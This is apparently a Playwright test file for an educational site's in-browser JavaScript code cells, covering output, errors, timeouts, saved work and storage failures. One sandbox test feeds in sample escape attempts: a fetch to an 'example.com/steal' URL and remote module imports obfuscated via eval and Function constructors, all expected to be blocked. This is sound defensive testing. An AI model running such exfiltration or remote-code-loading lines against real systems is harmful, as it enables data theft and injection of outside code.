// Code cells: typed with the keyboard, run, read. The value, console.log and errors with their line;
// the sandbox (no document, no network, no import); the 5-second stop while the page keeps answering;
// work kept across a reload, exported and imported; storage that refuses; the keyboard way out.
import {mkdtempSync, readFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import type {Browser, Request} from "playwright-core";
import {baseURL, launch, open, settle} from "./harness.js";
import {cell, codeOf, editorOf, output, runCell, typeCode} from "./cells.js";
import {showSlideWith} from "./slides.js";

const scratch = "kmeans-scratch";

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
});

const openKmeans = async (options = {}) => {
  const opened = await open(browser, "/kmeans", {waitFor: `[data-cell="${scratch}"]`, ...options});
  await editorOf(opened.page, scratch);
  return opened;
};

describe("code cells", () => {
  for (const route of ["/kmeans", "/hierarchical", "/pca", "/dbscan", "/assignment"]) {
    it(`${route} has at least three code cells, each with a labelled editor, Run, Reset and a polite output`, async () => {
      const {page, context} = await open(browser, route, {waitFor: ".pk-cell"});
      try {
        const cells = page.locator(".pk-cell");
        expect(await cells.count()).toBeGreaterThanOrEqual(3);
        for (const c of await cells.all()) {
          await c.scrollIntoViewIfNeeded(); // its editor is made near the screen
          await c.locator(".cm-content").waitFor();
          expect(await c.getByRole("button", {name: "Run", exact: true}).count()).toBe(1);
          expect(await c.getByRole("button", {name: "Reset", exact: true}).count()).toBe(1);
          expect((await c.locator(".cm-content").getAttribute("aria-label"))?.length).toBeGreaterThan(5);
          expect(await c.locator(".pk-cell-output").getAttribute("aria-live")).toBe("polite");
        }
      } finally {
        await context.close();
      }
    });
  }

  it("shows the last value, console.log output and an error with its line in the learner's code", async () => {
    const {page, context, watch} = await openKmeans();
    try {
      await typeCode(page, scratch, "const a = 20;\nconsole.log(\"hello\", a);\na * 2 + 2");
      const out = await runCell(page, scratch);
      expect(out).toContain("hello 20");
      expect(out).toContain("42");
      await typeCode(page, scratch, "const a = 1;\nconst b = {};\nb.c.d");
      expect(await runCell(page, scratch)).toMatch(/TypeError on line 3: Cannot read properties of undefined/);
      await typeCode(page, scratch, "const a = 1;\nkmeans(spicesX, {k: 12})");
      expect(await runCell(page, scratch)).toMatch(/RangeError on line 2: .*12.*8 rows/);
      await typeCode(page, scratch, "const a = 1;\nconst b = (;");
      expect(await runCell(page, scratch)).toMatch(/SyntaxError on line 2/);
      // Shift-Enter runs as the button does
      await typeCode(page, scratch, "spices.numRows() * 100");
      await page.keyboard.press("Shift+Enter");
      await cell(page, scratch).locator(".pk-cell-output", {hasText: "800"}).waitFor({timeout: 10_000});
      expect(watch.pageErrors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("one run cannot spoil the next: the data and the library come back fresh", async () => {
    const {page, context} = await openKmeans();
    try {
      await typeCode(page, scratch, "spicesX.length = 0;\nvar kmeans = 1;\nspicesX.length");
      expect(await runCell(page, scratch)).toBe("0");
      await typeCode(page, scratch, "`${spicesX.length} ${typeof kmeans}`");
      expect(await runCell(page, scratch)).toBe("8 function");
    } finally {
      await context.close();
    }
  });

  it("a library result gets a chart, show.scatter and show.table draw", async () => {
    const {page, context} = await openKmeans();
    try {
      await typeCode(page, scratch, "show.table(spicesRows.slice(0, 3));\nshow.scatter([[1, 2], [3, 4]], [0, 1]);\nkmeans(standardize(spicesX).data, {k: 3, seed: 42})");
      await runCell(page, scratch);
      const out = cell(page, scratch).locator(".pk-cell-output");
      expect(await out.locator("table").first().textContent()).toContain("Vanilla");
      expect(await out.locator('svg[aria-label^="Scatter of 2 points"]').count()).toBe(1);
      expect(await out.locator('svg[aria-label^="Cluster sizes"]').count()).toBe(1);
      expect(await out.locator("details summary").first().textContent()).toContain("labels");
    } finally {
      await context.close();
    }
  });

  it("cannot reach the page or the network: no document, no fetch, no XHR, no sockets, no import, no request to any host", async () => {
    const {page, context, watch} = await openKmeans();
    const requests: string[] = [];
    const base = new URL(baseURL());
    context.on("request", (r: Request) => {
      if (new URL(r.url()).host !== base.host) requests.push(r.url());
    });
    try {
      await typeCode(page, scratch, "document.title");
      expect(await runCell(page, scratch)).toMatch(/document is not defined/);
      await typeCode(page, scratch, "[typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof EventSource, typeof importScripts, typeof Worker, typeof window].join()");
      expect(await runCell(page, scratch)).toContain("undefined,undefined,undefined,undefined,undefined,undefined,undefined");
      await typeCode(page, scratch, 'fetch("http://example.com/steal")');
      expect(await runCell(page, scratch)).toMatch(/fetch is not defined/);
      await typeCode(page, scratch, 'import("http://example.com/x.js")');
      expect(await runCell(page, scratch)).toMatch(/cannot import modules/);
      await typeCode(page, scratch, 'new Function("return imp" + "ort(\\"http://example.com/y.js\\")")()');
      expect(await runCell(page, scratch)).toMatch(/cannot import modules/);
      await typeCode(page, scratch, 'eval("imp" + "ort(\\"http://example.com/z.js\\")")');
      expect(await runCell(page, scratch)).toMatch(/cannot import modules/);
      await typeCode(page, scratch, '(async () => {}).constructor("return imp" + "ort(\\"http://example.com/w.js\\")")()');
      expect(await runCell(page, scratch)).toMatch(/cannot import modules/);
      await typeCode(page, scratch, 'setTimeout("1 + 1", 0)');
      expect(await runCell(page, scratch)).toMatch(/takes a function/);
      await page.waitForTimeout(500);
      expect(requests).toEqual([]);
      expect(watch.offsite).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("an endless loop is stopped within the limit, the page answers meanwhile, and the next Run works", async () => {
    const {page, context, watch} = await openKmeans();
    try {
      await typeCode(page, scratch, "1");
      await runCell(page, scratch); // the worker is up
      await typeCode(page, scratch, "while (true) {}");
      const started = Date.now();
      await cell(page, scratch).getByRole("button", {name: "Run", exact: true}).click();
      // While the loop runs, the page's own thread answers at once.
      const lags: number[] = [];
      for (let i = 0; i < 5; ++i) {
        const t = Date.now();
        await page.evaluate(() => document.title);
        lags.push(Date.now() - t);
        await page.waitForTimeout(400);
      }
      await cell(page, scratch).locator(".pk-nb-problem", {hasText: "Stopped after 5 seconds"}).waitFor({timeout: 10_000});
      const stoppedAfter = Date.now() - started;
      console.log(`endless loop stopped after ${stoppedAfter} ms; page answered within ${Math.max(...lags)} ms while it ran`);
      // A page blocked by the loop would lag the whole 5 s; under a loaded CI machine ordinary frames reach ~0.6 s.
      expect(Math.max(...lags)).toBeLessThan(2_000);
      expect(stoppedAfter).toBeLessThan(8_000);
      expect(await output(page, scratch)).toContain("a loop that never ends?");
      await typeCode(page, scratch, "6 * 7");
      expect(await runCell(page, scratch)).toBe("42");
      expect(watch.pageErrors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it("a cell gets its editor when it comes near the screen; until then its code shows as text", async () => {
    const {page, context} = await open(browser, "/kmeans", {waitFor: `[data-cell="${scratch}"]`});
    try {
      const c = cell(page, scratch);
      expect(await c.locator(".cm-content").count()).toBe(0);
      expect(((await c.locator(".pk-cell-placeholder").textContent()) ?? "").length).toBeGreaterThan(5);
      await c.scrollIntoViewIfNeeded();
      await c.locator(".cm-content").waitFor();
      expect(await c.locator(".pk-cell-placeholder").count()).toBe(0);
    } finally {
      await context.close();
    }
  });

  it("Escape then Tab leaves the editor; Tab alone indents", async () => {
    const {page, context} = await openKmeans();
    try {
      await (await editorOf(page, scratch)).click();
      await page.keyboard.press("Tab");
      expect(await page.evaluate(() => document.activeElement?.classList.contains("cm-content"))).toBe(true);
      await page.keyboard.press("Escape");
      await page.keyboard.press("Tab");
      expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Run");
    } finally {
      await context.close();
    }
  });

  it("presenter mode enlarges the editor", async () => {
    const {page, context} = await open(browser, "/kmeans?present=1");
    try {
      // Slides show one section (or one part of it) at a time: go to the first slide that holds a code cell.
      await showSlideWith(page, ".pk-cell");
      await page.waitForSelector(".pk-cell .cm-content", {timeout: 30_000});
      const size = await page.locator(".pk-cell .cm-editor").first().evaluate((e) => parseFloat(getComputedStyle(e).fontSize));
      expect(size).toBeGreaterThanOrEqual(20);
    } finally {
      await context.close();
    }
  });
});

describe("saved work", () => {
  it("code and exercise state survive a reload; Reset and Start over bring the starter back", async () => {
    const {page, context} = await openKmeans();
    try {
      await typeCode(page, scratch, "spicesNames.length * 3");
      await page.locator("#exercise-kmeans-assign").getByRole("button", {name: /Show a hint/}).click();
      await page.waitForTimeout(400);
      await page.reload({waitUntil: "load"});
      await settle(page);
      await editorOf(page, scratch);
      expect(await codeOf(page, scratch)).toBe("spicesNames.length * 3");
      expect(await page.locator("#exercise-kmeans-assign .pk-hints li").count()).toBe(1);
      await cell(page, scratch).getByRole("button", {name: "Reset", exact: true}).click();
      expect(await codeOf(page, scratch)).toContain("standardize(spicesX)");
      await page.locator("#exercise-kmeans-assign").getByRole("button", {name: "Start over"}).click();
      expect(await page.locator("#exercise-kmeans-assign .pk-hints li").count()).toBe(0);
    } finally {
      await context.close();
    }
  });

  it("export then import (on another machine) restores every cell and exercise", async () => {
    const {page, context} = await openKmeans();
    let file: string;
    try {
      await typeCode(page, scratch, "spicesNames[0]");
      await typeCode(page, "exercise-kmeans-update", "[[1, 2, 3, 4]]");
      await page.locator("#exercise-kmeans-update").getByRole("button", {name: /Show a hint/}).click();
      await page.waitForTimeout(400);
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", {name: "Export all work"}).click()]);
      file = join(mkdtempSync(join(tmpdir(), "pk-work-")), download.suggestedFilename());
      await download.saveAs(file);
      const saved = JSON.parse(readFileSync(file, "utf8"));
      expect(saved.format).toBe("pattern-kitchen-work");
      expect(saved.work[`cell:${scratch}`].code).toBe("spicesNames[0]");
      // Start over everywhere (two clicks), then import the file back.
      const clear = page.locator(".pk-work-panel .pk-clear");
      await clear.click();
      await clear.click();
      expect(await codeOf(page, scratch)).toContain("standardize(spicesX)");
      await page.locator(".pk-work-panel input[type=file]").setInputFiles(file);
      await page.locator(".pk-work-message", {hasText: "Imported"}).waitFor();
      expect(await codeOf(page, scratch)).toBe("spicesNames[0]");
      expect(await codeOf(page, "exercise-kmeans-update")).toBe("[[1, 2, 3, 4]]");
    } finally {
      await context.close();
    }
    const other = await openKmeans();
    try {
      await other.page.locator(".pk-work-panel input[type=file]").setInputFiles(file);
      await other.page.locator(".pk-work-message", {hasText: "Imported"}).waitFor();
      expect(await codeOf(other.page, scratch)).toBe("spicesNames[0]");
      expect(await other.page.locator("#exercise-kmeans-update .pk-hints li").count()).toBe(1);
      await other.page.locator(".pk-work-panel input[type=file]").setInputFiles({name: "notes.json", mimeType: "application/json", buffer: Buffer.from("{\"hello\": 1}")});
      await other.page.locator(".pk-work-message", {hasText: "Nothing imported"}).waitFor();
      expect(await codeOf(other.page, scratch)).toBe("spicesNames[0]");
    } finally {
      await other.context.close();
    }
  });

  it("the assignment's written messages are kept as notes and go into the export", async () => {
    const {page, context} = await open(browser, "/assignment", {waitFor: ".pk-message-notes textarea"});
    try {
      const note = page.getByRole("textbox", {name: "Segment 0"});
      await note.click();
      await page.keyboard.type("Lunch-time budget orders: a weekday lunch deal at 11:00.");
      await page.reload({waitUntil: "load"});
      await settle(page);
      await page.locator(".pk-message-notes textarea").first().waitFor();
      expect(await page.getByRole("textbox", {name: "Segment 0"}).inputValue()).toBe("Lunch-time budget orders: a weekday lunch deal at 11:00.");
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", {name: "Export all work"}).click()]);
      const file = join(mkdtempSync(join(tmpdir(), "pk-work-")), download.suggestedFilename());
      await download.saveAs(file);
      expect(JSON.parse(readFileSync(file, "utf8")).work["note:assignment-message-0"].text).toContain("weekday lunch deal");
    } finally {
      await context.close();
    }
  });

  it("full or blocked storage gives a message and the cells still run", async () => {
    const context = await browser.newContext();
    await context.addInitScript(() => {
      Storage.prototype.setItem = () => {
        throw new DOMException("full", "QuotaExceededError");
      };
    });
    const page = await context.newPage();
    const errors: string[] = [];
    page.on("pageerror", (e) => errors.push(String(e)));
    try {
      await page.goto(new URL("/kmeans", baseURL()).href, {waitUntil: "load"});
      await settle(page);
      await editorOf(page, scratch);
      await typeCode(page, scratch, "2 + 2");
      expect(await runCell(page, scratch)).toBe("4");
      expect(await cell(page, scratch).locator(".pk-cell-status").textContent()).toMatch(/storage .* is full/);
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
